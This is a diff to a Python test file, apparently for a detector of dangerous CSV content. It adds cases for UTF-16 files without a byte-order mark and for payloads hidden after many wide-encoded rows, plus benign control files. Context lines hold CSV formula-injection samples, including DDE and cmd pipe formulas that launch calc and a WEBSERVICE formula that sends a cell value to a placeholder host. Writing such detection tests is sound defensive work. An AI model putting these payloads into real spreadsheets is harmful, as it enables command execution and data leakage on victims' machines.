@@ -32,6 +32,11 @@ _DANGEROUS: Final = (
     _case("program-behind-a-separator-of-its-own.csv", "sep=^\na^=cmd|'/c calc'!A0\n", "program"),
     _case("program-behind-a-quoted-separator.csv", "\ufeff\"SEP=x\"\r\nax=cmd|'/c calc'!A0\r\n", "program"),
     _case("link-behind-a-bracket.csv", 'sep=]\na]=HYPERLINK("http://a.example")\n'.encode("utf-16"), "link"),
+    *(
+        _case(f"program-in-unmarked-{encoding}.csv", f"a;b\n{_EXCEL};1\n".encode(encoding), "program")
+        for encoding in ("utf-16-le", "utf-16-be")
+    ),
+    _case("program-behind-wide-letters.csv", "a;b\n".encode("utf-16-le") * 1000 + f"\n{_EXCEL}\n".encode(), "program"),
     _case("dde.csv", 'a,b\n1,"=DDE(""cmd"",""/C calc"",""x"")"\n', "program"),
     _case("dde-semicolons.csv", '=DDE("cmd";"/C calc";"x")\n', "program"),
     _case("webservice.csv", 'a,b\n1,"=WEBSERVICE(""http://a.example/""&A1)"\n', "call"),
@@ -54,6 +59,8 @@ _HONEST: Final = (
     _case("markup.csv", 'a,b\n1,"- one\n- two | three!\n- four"\n'),
     _case("empty-cells.csv", ',,,\n"","",""\n'),
     _case("utf-16.csv", "a,b\n-1,ü\n".encode("utf-16")),
+    _case("unmarked-utf-16.csv", "a;b\n-1;ü\n".encode("utf-16-le")),
+    _case("unmarked-big-endian.csv", "a;b\n-1;5 €\n".encode("utf-16-be")),
     _case("separator-told.csv", 'sep=;\na;b\n-1;"=SUM(A1;B1)"\nsep=^;a^=cmd|x\n'),
     _case("separator-of-its-own.csv", "sep=^\na^b|c\n-1^=SUM(A1,B1)\n"),
     _case("open-quote.csv", 'size,name\n5",desk\n-1,"x\n'),
